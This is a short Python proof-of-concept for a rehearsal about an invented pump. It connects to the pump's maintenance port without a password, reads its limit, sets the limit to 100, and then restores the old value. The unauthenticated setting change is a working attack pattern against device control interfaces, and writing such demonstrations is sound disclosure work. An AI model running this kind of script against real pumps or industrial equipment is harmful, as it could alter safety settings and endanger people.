# poc.py: shows that the maintenance port of an invented pump asks for no password
#
# SPDX-License-Identifier: GPL-3.0-or-later
#
# Part of the rehearsal: there is no such pump.

import socket
import sys


def ask(pump, command):
    pump.sendall(command.encode("ascii") + b"\r\n")
    return pump.recv(256).decode("ascii").strip()


with socket.create_connection((sys.argv[1], 4711), timeout=5) as pump:
    before = ask(pump, "GET-LIMIT")
    print("limit before:", before)
    print("set to 100:  ", ask(pump, "SET-LIMIT 100"))
    print("set back:    ", ask(pump, f"SET-LIMIT {before}"))
